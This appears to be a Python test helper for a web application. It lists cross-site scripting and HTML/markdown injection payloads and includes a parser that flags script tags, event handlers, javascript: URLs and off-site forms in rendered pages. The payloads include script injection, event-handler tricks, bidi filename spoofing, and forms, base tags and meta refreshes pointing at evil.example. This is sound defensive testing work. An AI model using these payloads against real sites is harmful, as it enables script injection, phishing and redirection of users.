"""Strings that people can put into titles, branches, bodies and files to break out of a page."""

from __future__ import annotations

from html.parser import HTMLParser

HOSTILE = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' autofocus onfocus='alert(1)",
    '" onmouseover="alert(1)',
    "</textarea><script>alert(1)</script>",
    "</details></div></main><form action=https://evil.example><button>Merge</button></form>",
    "<details open ontoggle=alert(1)>",
    "<b/onclick=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<!-- --><script>alert(1)</script> <!-- -->",
    "--><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "{{ 7 * 7 }}{% raw %}",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '[x](https://a.example "onclick=alert(1) \\" onmouseover=alert(1)")',
    "[r]: javascript:alert(1)\n\n[r]",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '~~~ "onmouseover=alert(1)\n~~~',
    "| a |\n|--|\n| <script>alert(1)</script> |",
    '```mermaid\nflowchart LR\n  a["</text></svg><script>alert(1)</script>"]\n```',
    '```mermaid\nflowchart LR\n  a["#60;script#62;alert(1)#60;/script#62;"]\n```',
    '```mermaid\nflowchart LR\n  click a "javascript:alert(1)"\n```',
    "<style>*{display:none}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "\u202egnp.exe \u2066<b>\u2069",
    "a\x00b\x1b[31m",
    "x" * 3000,
)

_FORBIDDEN_TAGS = frozenset({"script", "iframe", "object", "embed", "style", "base", "frame"})


class _Finder(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in _FORBIDDEN_TAGS or (tag == "meta" and "http-equiv" in given):
            self.found.append(f"<{tag}>")
        self.found += [
            f"{tag} {name}" for name in given if name.startswith("on") or name == "style"
        ]
        for name in ("href", "src", "action", "formaction"):
            address = given.get(name, "/").strip().lower()
            if address.startswith(("javascript:", "data:", "vbscript:")):
                self.found.append(f"{tag} {name}={address}")
        if tag == "form" and not given.get("action", "").startswith("/"):
            self.found.append(f"form to {given.get('action')}")


def alive(html: str) -> list[str]:
    """What in a page could run, restyle it or send a form away; [] for a harmless page."""
    finder = _Finder()
    finder.feed(html)
    finder.close()
    return finder.found
